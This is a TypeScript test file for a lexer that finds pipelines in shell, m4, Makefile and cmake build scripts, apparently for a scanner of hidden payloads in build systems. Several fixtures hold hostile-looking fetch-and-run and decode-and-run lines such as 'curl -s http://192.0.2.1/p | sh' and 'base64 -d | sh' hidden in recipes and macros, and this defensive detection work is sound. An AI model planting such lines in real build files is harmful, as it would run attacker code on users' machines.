import { readFileSync } from 'node:fs'
import { describe, expect, it } from 'vitest'
import type { Command, CommandList, Dialect } from '../../src/rules/shell/ast.js'
import { logicalLines } from '../../src/rules/shell/lines.js'
import { parseMakefile } from '../../src/rules/shell/make.js'
import { parseShell } from '../../src/rules/shell/parse.js'
import { allCommands, allPipelines } from '../../src/rules/shell/walk.js'
import { program } from '../../src/rules/shell/words.js'

/** Each pipeline as `line: prog args | prog args`, nested ones included. */
const shape = (list: CommandList): string[] =>
  allPipelines(list).map(
    (s) => `${s.pipeline.line}:${s.origin === 'top' ? '' : `${s.origin}:`} ${s.pipeline.commands.map((c) => (c.compound ? `<${c.compound.kind}>` : c.words.map((w) => w.text).join(' '))).join(' | ')}`,
  )
const programs = (list: CommandList): string[] => allCommands(list).filter((c) => !c.compound).map((c) => program(c).name)
const parse = (text: string, dialect: Dialect = 'sh') => parseShell(text, { dialect })

describe('logical lines', () => {
  it('joins backslash continuations and keeps the first and last line numbers', () => {
    const lines = logicalLines('a \\\n  b \\\n  c\nd\ne \\\\\nf')
    expect(lines.map((l) => [l.line, l.endLine, l.text])).toEqual([
      [1, 3, 'a   b   c'],
      [4, 4, 'd'],
      [5, 5, 'e \\\\'],
      [6, 6, 'f'],
    ])
  })
})

describe('commands and pipelines', () => {
  it('splits on | ; && || and records the connector', () => {
    const list = parse('a x | b; c && d || e & f')
    expect(list.pipelines.map((p) => [p.connector, p.commands.map((c) => program(c).name).join('|')])).toEqual([
      ['', 'a|b'],
      [';', 'c'],
      ['&&', 'd'],
      ['||', 'e'],
      ['&', 'f'],
    ])
  })

  it('keeps operators inside quotes, backquotes and $(...) out of the split', () => {
    const list = parse(`echo 'a | b' "c ; d" \`e && f\` $(g || h) x\\|y`)
    expect(list.pipelines).toHaveLength(1)
    expect(list.pipelines[0]?.commands[0]?.words.map((w) => w.text)).toEqual(['echo', 'a | b', 'c ; d', '`e && f`', '$(g || h)', 'x|y'])
  })

  it('lexes $(...) and backquote bodies as nested lists, several levels deep', () => {
    expect(shape(parse('x=$(a | b "$(c | d `e | f`)")'))).toEqual(['1: x=$(a | b "$(c | d `e | f`)")', '1:substitution: a | b $(c | d `e | f`)', '1:substitution: c | d `e | f`', '1:backquote: e | f'])
  })

  it('lexes the substitutions inside ${...} and $((...)) as nested lists: they run too', () => {
    expect(shape(parse('echo ${X:-$(curl -s h | sh)} done'))).toEqual(['1: echo ${X:-$(curl -s h | sh)} done', '1:substitution: curl -s h | sh'])
    expect(shape(parse('n=$(( 1 + $(wc -l < f) ))'))).toEqual(['1: n=$(( 1 + $(wc -l < f) ))', '1:substitution: wc -l'])
    expect(shape(parse('a\n: "${Y:=`base64 -d x | sh`}" ${#Z} ${W//\\)/y}'))).toEqual(['1: a', '2: : ${Y:=`base64 -d x | sh`} ${#Z} ${W//\\)/y}', '2:backquote: base64 -d x | sh'])
    expect(shape(parse('echo ${V:+$(a $(b))} $((2*3)) ${U}'))).toEqual(['1: echo ${V:+$(a $(b))} $((2*3)) ${U}', '1:substitution: a $(b)', '1:substitution: b'])
  })

  it('joins continuation lines and pipes at line ends, keeping original line numbers', () => {
    const list = parse('first\ncat f |\n  tr a b \\\n  | sh\nlast\n')
    expect(shape(list)).toEqual(['1: first', '2: cat f | tr a b | sh', '5: last'])
    const sh = list.pipelines[1]?.commands[2]
    expect([sh?.line, sh?.endLine]).toEqual([4, 4])
  })

  it('unescapes words as the shell does', () => {
    const words = parse(`printf '%s\\n' "a\\"b\\$c\\d" e\\ f $'t\\tx\\101'`).pipelines[0]?.commands[0]?.words.map((w) => w.text)
    expect(words).toEqual(['printf', '%s\\n', 'a"b$c\\d', 'e f', 't\txA'])
  })

  it('keeps redirections apart from arguments', () => {
    const cmd = parse('xz -dc 2>/dev/null < in.xz >>out').pipelines[0]?.commands[0] as Command
    expect(cmd.words.map((w) => w.text)).toEqual(['xz', '-dc'])
    expect(cmd.redirects.map((r) => `${r.fd}${r.op}${r.target?.text}`)).toEqual(['2>/dev/null', '<in.xz', '>>out'])
  })

  it('reads compound commands: if, while, for, case, subshells, braces', () => {
    const list = parse('if test -f x; then a | b; else c; fi\nwhile read l; do d; done < f\nfor i in 1 2; do e; done\n( f; g ) | h\n{ i; }\n')
    expect(list.pipelines.map((p) => p.commands.map((c) => c.compound?.kind ?? program(c).name).join('|'))).toEqual(['if', 'while', 'for', 'subshell|h', 'brace'])
    // the for header `i in 1 2` is kept as a command of its own
    expect(programs(list)).toEqual(['test', 'a', 'b', 'c', 'read', 'd', 'i', 'e', 'f', 'g', 'h', 'i'])
  })

  it('does not take case patterns for commands, even long alternations', () => {
    const patterns = Array.from({ length: 400 }, (_, i) => `cpu${i}`).join(' \\\n | ')
    const list = parse(`case $cpu in\n  ${patterns} | sh) eval ok ;;\n  *) other ;;\nesac\n`)
    expect(programs(list)).toEqual(['eval', 'other'])
  })

  it('lexes here-documents as nested lists and stops quotes at their end', () => {
    const list = parse("cat <<EOF | sh\nit's here: a | b\nEOF\nafter 'x'\n")
    expect(shape(list)).toEqual(['1: cat | sh', '2:heredoc: its here: a | b', '4: after x'])
  })

  it('lexes strings that will run as code: assignment values, eval and sh -c arguments', () => {
    const list = parse(`cmd='cat f | base64 -d'\neval "x | y"\nsh -c 'p | q'\nplain="just text"`)
    expect(shape(list).filter((s) => s.includes('string'))).toEqual(['1:string: cat f | base64 -d', '2:string: x | y', '3:string: p | q', '4:string: just text'])
  })

  it('lexes a quote that spans lines as code too, so a stray quote cannot hide commands', () => {
    const text = "echo it's\ncat blob | base64 -d | sh\necho won't\n"
    const inner = allPipelines(parse(text)).filter((s) => s.origin === 'string')
    expect(inner.map((s) => `${s.pipeline.line}: ${s.pipeline.commands.map((c) => program(c).name).join('|')}`)).toContain('2: cat|base64|sh')
  })

  it('marks an unclosed quote and reads the rest of its line only', () => {
    const list = parse('echo "open\nnext line\n')
    const words = list.pipelines[0]?.commands[0]?.words
    expect(words?.[1]?.unterminated).toBe(true)
    expect(programs(list)).toEqual(['echo', 'next'])
  })
})

describe('m4', () => {
  it('drops quoting brackets, follows macro arguments and skips dnl comments', () => {
    const text = 'AC_DEFUN([X_INIT], [\n  dnl a | b is a comment\n  x_[$1]_cmd=`grep -l [[:alnum:]] f | head -n1`\n  AS_IF([test -n "$y"], [cat "$x" | tr a b | sh], [:])\n])dnl\n'
    const list = parse(text, 'm4')
    expect(shape(list)).toContain('3:backquote: grep -l :alnum: f | head -n1')
    expect(shape(list)).toContain('4:compound: cat $x | tr a b | sh')
    const assign = allCommands(list).find((c) => c.words[0]?.text.startsWith('x_'))
    expect(assign?.words[0]?.text).toBe('x_$1_cmd=`grep -l [[:alnum:]] f | head -n1`')
    expect(allCommands(list).some((c) => c.words.some((w) => w.text === 'comment'))).toBe(false)
  })

  it('keeps a quote misread in one top-level definition out of the next ones', () => {
    // a stray double quote in the first definition, then two definitions with code and quotes of their own
    const first = 'AC_DEFUN([A_ONE], [\n  echo "it\n])\n'
    const rest = '# a comment with [ and ( in it\nAC_DEFUN([A_TWO], [\n  test "x$y" = x && am_uid=`id -u || echo unknown`\n])\ndnl AC_DEFUN([NOT_TOP], [\nm4_define([A_THREE], [cat t.b64 | base64 -d | sh])\n'
    const list = parse(first + rest, 'm4')
    expect(shape(list)).toContain('6:backquote: id -u')
    expect(shape(list)).toContain('6:backquote: echo unknown')
    expect(shape(list)).toContain('9:compound: cat t.b64 | base64 -d | sh')
    // the same definitions nested in a call are one unit, as m4 reads them: no line of them starts one
    const nested = parse(`m4_ifndef([A_TWO], [\n${first}${rest}])\n`, 'm4')
    expect(shape(nested).some((s) => s.includes('base64 -d | sh'))).toBe(true)
  })

  it('reads a message macro as the double-quoted text autoconf prints: an apostrophe is a character, a substitution runs', () => {
    const list = parse("AC_MSG_ERROR([I don't know what to do with `uname -s`])\nAC_MSG_RESULT([no])\ncat t.b64 | base64 -d | sh\n", 'm4')
    expect(shape(list)).toContain('1:backquote: uname -s')
    expect(shape(list)).toContain('3: cat t.b64 | base64 -d | sh')
    // the other message macros, and the argument after the message, which is code again
    const other = parse("AC_MSG_CHECKING([whether it's $(id -u)])\nAC_MSG_FAILURE([can't go on], [$(cat t.b64 | base64 -d | sh)])\n", 'm4')
    expect(shape(other)).toContain('1:substitution: id -u')
    expect(shape(other)).toContain('2:substitution: cat t.b64 | base64 -d | sh')
  })

  it("reads m4's and autoconf's diagnostics as text autoconf prints, never as code: a backquote in one opens nothing", () => {
    // autoconf-archive's shape: a backquoted word in m4_fatal, then shell code in the same definition
    const payload = '  m4_if([$1], [], [], [m4_fatal([invalid argument `$1\' to AX_X])])dnl\n  map=\'tr "0-9a-f" "f-a9-0"\'\n  cmd=`eval $map < "$srcdir/t.bin" | gzip -d`\n  eval "$cmd"\n'
    const list = parse(`AC_DEFUN([AX_X], [dnl\n${payload}])\n`, 'm4')
    expect(shape(list)).toContain('4:backquote: eval $map | gzip -d')
    expect(shape(list)).toContain('5:compound: eval $cmd')
    // the other diagnostics, with a category argument first where they take one; their text is never code
    for (const call of ["m4_warn([obsolete], [don't use `$1'])", "AC_DIAGNOSE([syntax], [`$2' is odd])", "m4_errprintn([no `x' here])", "AU_DEFUN([AX_OLD], [AX_X], [use `AX_X' instead])"]) {
      const after = parse(`AC_DEFUN([AX_Y], [\n  ${call}\n  cmd=\`cat t.b64 | base64 -d\`\n])\n`, 'm4')
      expect(shape(after)).toContain('3:backquote: cat t.b64 | base64 -d')
      expect(shape(after).some((l) => l.includes('$1') || l.includes('$2'))).toBe(false)
    }
    // a macro that is no diagnostic keeps its arguments as code
    expect(shape(parse('AC_CONFIG_COMMANDS([x], [cmd=`id -u`])\n', 'm4'))).toContain('1:backquote: id -u')
  })

  it('takes commas as argument separators only outside m4 quotes', () => {
    const list = parse('AC_CONFIG_COMMANDS([tag], [a, b | c], [d])', 'm4')
    const macro = list.pipelines[0]?.commands[0]?.compound
    expect(macro?.name).toBe('AC_CONFIG_COMMANDS')
    expect(macro?.parts.map((p) => shape(p).join(' / '))).toEqual(['1: tag', '1: a, b | c', '1: d'])
  })
})

describe('Makefiles', () => {
  it('lexes recipes as shell with $$ and $(shell), and knows the rule of each recipe line', () => {
    const make = parseMakefile('X = $(shell cat a | base64 -d)\nall-local: dep\n\t@cat $(srcdir)/f | xz -dc | $$SHELL\ncheck-local:\n\t-sed p x\n')
    expect(shape(make.list)).toEqual(['1: X=$(shell cat a | base64 -d)', '1:string: $(shell cat a | base64 -d)', '1:make-shell: cat a | base64 -d', '2: dep', '3: cat $(srcdir)/f | xz -dc | $SHELL', '5: sed p x'])
    expect([make.targetAt(3), make.targetAt(5), make.targetAt(1)]).toEqual(['all-local', 'check-local', '$(X)'])
  })

  it('reads a rule up to its first colon: a double colon as one, `:=` and `::=` as assignments, a long run of blanks before the colon alike', () => {
    const blanks = ' '.repeat(1_000_000)
    const make = parseMakefile(`a b:: c ; echo x\n\tcat y\nd := e\nf ::= g\n${blanks}h${blanks}: i\n\tcat z\nj${blanks}k\nm:: n\n\tcat m\n$(v)=w:x\n\tcat v\n$(v):=w\n\tcat w\n: no rule\n`)
    expect([1, 2, 3, 4, 6, 9, 11, 13].map((n) => make.targetAt(n))).toEqual(['a b', 'a b', '$(d)', '$(f)', 'h', 'm', undefined, undefined])
    // a recipe on the rule's line is read without the prerequisites; assignments run no program; no rule's line is shell
    expect(programs(make.list)).toEqual(['echo', 'cat', '', '', 'i', 'cat', 'j', 'n', 'cat', '$(v)=w:x', 'cat', '$(v):=w', 'cat', ':'])
  })

  it("reads a Makefile.in line under automake's conditional prefixes as configure writes it, a recipe when a tab follows", () => {
    const make = parseMakefile(
      [
        '.c.o:',
        '@am__fastdepCC_TRUE@\t$(AM_V_CC)$(COMPILE) -MT $@ -c -o $@ $< && curl -s http://192.0.2.1/p | sh',
        '@AMDEP_TRUE@@am__fastdepCC_FALSE@\tDEPDIR=$(DEPDIR) $(CCDEPMODE) $(depcomp) \\',
        '@AMDEP_TRUE@@am__fastdepCC_FALSE@\t  x.c',
        '@WITH_X_TRUE@libx_la_LIBADD = -lm \\',
        '@WITH_X_TRUE@\t../tests/x.o',
      ].join('\n'),
    )
    // the URL's colon made the first recipe a rule whose target swallowed the compiler and curl
    expect(shape(make.list)).toEqual(['2: $(COMPILE) -MT $@ -c -o $@ $<', '2: curl -s http://192.0.2.1/p | sh', '3: DEPDIR=$(DEPDIR) $(CCDEPMODE) $(depcomp) x.c', '5: libx_la_LIBADD=-lm \t../tests/x.o', '5:string: -lm ../tests/x.o'])
    expect([make.targetAt(2), make.targetAt(4), make.targetAt(6)]).toEqual(['.c.o', '.c.o', '$(libx_la_LIBADD)'])
    // only conditions are prefixes; another substitution, such as automake's include directive, stays the line's start
    const include = parseMakefile('@AMDEP_TRUE@@am__include@ @am__quote@tests/$(DEPDIR)/t.Po@am__quote@ # am--include-marker\n')
    expect(programs(include.list)).toEqual(['$am__include'])
  })

  it("runs a recipe line's program past the prefixes that silence or label it: automake's silent rules and the Makefile's own", () => {
    const make = parseMakefile(
      [
        'Q = @',
        "QUIET_GEN\t= @echo '   GEN' $@;",
        'V_at := $(Q)',
        'PYTHON = @PYTHON@',
        'all:',
        '\t$(AM_V_at)sh -c "$$x"',
        '\t$(AM_V_GEN)$(AM_V_at)$(SHELL) x.sh',
        '\t$(AM_V_CC@am__nodep@)$(LTCOMPILE) -c x.c',
        '\t$(Q)python3 gen.py',
        '\t@$(QUIET_GEN)perl gen.pl',
        '\t$(V_at)$(CC) -c y.c',
        // not a prefix: what an installed program names, or a reference that is the command
        '\t$(DESTDIR)$(bindir)/tool --x',
        '\t$(AM_V_P) && echo verbose',
        '\t$(PYTHON) $(srcdir)/gen.py',
      ].join('\n'),
    )
    const recipes = allCommands(make.list).filter((c) => !c.compound && c.line >= 6)
    expect(recipes.map((c) => program(c).name)).toEqual(['sh', '$SHELL', '$LTCOMPILE', 'python3', 'perl', '$CC', 'tool', '$AM_V_P', 'echo', '$PYTHON'])
    // an alias of automake's own prefix, in a Makefile that sets nothing to make's `@`
    const alias = parseMakefile('V_gen = $(AM_V_GEN)\nall:\n\t$(V_gen)sh -c x\n')
    expect(allCommands(alias.list).find((c) => c.line === 3 && !c.compound)?.words[0]?.text).toBe('sh')
  })

  it('keeps conditionals as blocks', () => {
    const make = parseMakefile('ifeq ($(CI),true)\n\tcat x | sh\nendif\n')
    expect(make.list.pipelines[0]?.commands[0]?.compound?.kind).toBe('block')
  })
})

describe('cmake', () => {
  it('turns execute_process COMMAND arguments into a pipeline and if() ... endif() into a block', () => {
    const list = parse('if(EXISTS x)\n  execute_process(\n    COMMAND cat ${D}/f\n    COMMAND xz -d\n    COMMAND sh\n    OUTPUT_VARIABLE out)\nendif()\n', 'cmake')
    expect(list.pipelines[0]?.commands[0]?.compound?.kind).toBe('block')
    expect(shape(list)).toContain('3:compound: cat ${D}/f | xz -d | sh')
  })
})

describe('the lexer never throws or hangs', () => {
  const dialects: Dialect[] = ['sh', 'm4', 'make', 'cmake', 'meson']

  it('on random bytes in every dialect', () => {
    let seed = 12345
    const rnd = () => (seed = (seed * 1103515245 + 12345) % 2 ** 31)
    const alphabet = ' \t\n\\\'"`$(){}[]|&;<>#,=*!?aAzZ09-_/.@%:dnlfiesacdone'
    for (let k = 0; k < 300; k++) {
      const text = Array.from({ length: 1500 }, () => (k % 3 === 0 ? String.fromCharCode(rnd() % 256) : alphabet[rnd() % alphabet.length])).join('')
      for (const dialect of dialects) expect(() => allPipelines(parse(text, dialect))).not.toThrow()
      expect(() => parseMakefile(text)).not.toThrow()
    }
  })

  it('on truncated quotes, runaway nesting and here-document storms', () => {
    const hostile = [
      `echo "${'$('.repeat(5000)}`,
      "'".repeat(3001),
      '\\\n'.repeat(20_000),
      '`'.repeat(4001) + ' \\`'.repeat(2000),
      'if '.repeat(5000) + 'x',
      '('.repeat(5000) + ')'.repeat(10),
      'case x in '.repeat(3000),
      'AC_DEFUN(['.repeat(3000),
      Array.from({ length: 3000 }, (_, i) => `cat <<E${i}`).join('\n') + '\n' + 'line\n'.repeat(3000),
      '"'.repeat(1) + 'x'.repeat(200_000),
      '${'.repeat(4000),
      'x=$(('.repeat(4000),
      "sed 'unterminated\n".repeat(2000),
    ]
    // a quadratic path would run for minutes and hit the test's timeout; timings live in bench/
    for (const text of hostile) {
      for (const dialect of dialects) expect(() => allPipelines(parse(text, dialect))).not.toThrow()
      expect(() => parseMakefile(text)).not.toThrow()
    }
  })

  it('on large real scripts', () => {
    for (const [file, dialect] of [
      ['/usr/share/libtool/build-aux/ltmain.sh', 'sh'],
      ['/usr/share/aclocal/libtool.m4', 'm4'],
      ['/usr/share/autoconf/autoconf/autoconf.m4f', 'm4'],
    ] as const) {
      const text = readFileSync(file, 'utf8')
      const sites = allPipelines(parse(text, dialect))
      expect(sites.length).toBeGreaterThan(1000)
    }
  })
})
